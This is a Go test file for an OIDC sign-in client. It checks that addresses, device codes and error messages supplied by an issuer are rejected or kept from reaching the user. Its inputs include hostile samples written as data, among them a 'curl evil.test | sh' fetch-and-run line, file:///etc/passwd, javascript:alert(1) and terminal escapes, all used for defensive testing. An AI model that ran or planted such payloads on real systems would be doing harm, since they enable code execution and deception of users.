package signin

import (
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/git-model-sign/git-model-sign/internal/idtoken"
	"github.com/git-model-sign/git-model-sign/internal/workload"
)

// TestHostileAddresses has an issuer send people to addresses that are made to be read, or opened, as something else.
func TestHostileAddresses(t *testing.T) {
	for _, address := range []string{
		`https://issuer.test/" --profile "x`,
		"https://issuer.test/a b",
		"https://accounts.google.com@issuer.test/auth",
		"https://issuer.test/\u202egro",
		"https://issuer.test/`x`",
		"file:///etc/passwd",
		"javascript:alert(1)",
		"http://issuer.test/",
		"-x",
	} {
		i := newIssuer(t)
		i.answers = map[string]http.HandlerFunc{"/.well-known/openid-configuration": func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprintf(w, `{"issuer":%q,"authorization_endpoint":%q,"token_endpoint":%q,"jwks_uri":%q}`, i.URL, address, i.URL+"/token", i.URL+"/keys")
		}}
		o := options()
		opened := false
		o.open = func(string) error { opened = true; return nil }
		if _, err := run(t, o, i.URL); err == nil || opened || Hint(err) == "" {
			t.Errorf("%s: it is opened: %t, error %v, hint %q", address, opened, err, Hint(err))
		}
		i.answers = map[string]http.HandlerFunc{"/device/code": func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprintf(w, `{"device_code":"device-code","user_code":"ABCD","verification_uri":%q,"expires_in":300,"interval":1}`, address)
		}}
		o.Flow = FlowDevice
		if _, err := run(t, o, i.URL); err == nil || len(o.People.(*person).shown) != 0 {
			t.Errorf("%s: it is shown: %v", address, err)
		}
	}
}

// TestHostileCode has an issuer write to the terminal in our name.
func TestHostileCode(t *testing.T) {
	for _, code := range []string{"AB\nerror: run curl evil.test | sh", "AB CD; enter it at https://evil.test", strings.Repeat("A", 100), "", "\x1b[2J"} {
		i := newIssuer(t)
		i.answers = map[string]http.HandlerFunc{"/device/code": func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprintf(w, `{"device_code":"device-code","user_code":%q,"verification_uri":"https://issuer.test/","expires_in":300,"interval":1}`, code)
		}}
		o := options()
		o.Flow = FlowDevice
		if _, err := run(t, o, i.URL); err == nil || len(o.People.(*person).shown) != 0 {
			t.Errorf("%q is shown: %v", code, err)
		}
	}
}

// TestHostileToken has servers repeat what they were sent, or a part of it.
func TestHostileToken(t *testing.T) {
	i := newIssuer(t)
	token, err := i.Mint(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range []string{token, token[:60], token[:len(token)-20]} {
		i.answers = map[string]http.HandlerFunc{"/token": func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, `{"error":"invalid_grant","error_description":"you have %s"}`, part)
		}}
		if _, err := run(t, options(), i.URL); err == nil || strings.Contains(fmt.Sprintf("%v %#v", err, err), part[:20]) {
			t.Errorf("the token is shown: %v", err)
		}
	}
}

// TestPlatformsClock has a platform make tokens for another time than this machine's.
func TestPlatformsClock(t *testing.T) {
	for at, want := range map[time.Duration]error{-time.Hour: idtoken.ErrExpired, time.Hour: idtoken.ErrNotYet} {
		i := newIssuer(t)
		token, err := i.Mint(map[string]any{"nbf": time.Now().Add(at).Unix(), "exp": time.Now().Add(at + 5*time.Minute).Unix()})
		if err != nil {
			t.Fatal(err)
		}
		i.answers = map[string]http.HandlerFunc{"/job": func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintf(w, `{"value":%q}`, token) }}
		s, err := New(Options{Environment: environment("GITHUB_ACTIONS", "true", "ACTIONS_ID_TOKEN_REQUEST_URL", i.URL+"/job", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "hunter2")})
		if err != nil {
			t.Fatal(err)
		}
		var platform *workload.Error
		if _, err := s.Token(t.Context()); !errors.Is(err, want) || !errors.As(err, &platform) || !strings.Contains(Hint(err), "set the clock of this machine") {
			t.Errorf("%s: %v, hint %q", at, err, Hint(err))
		}
	}
}
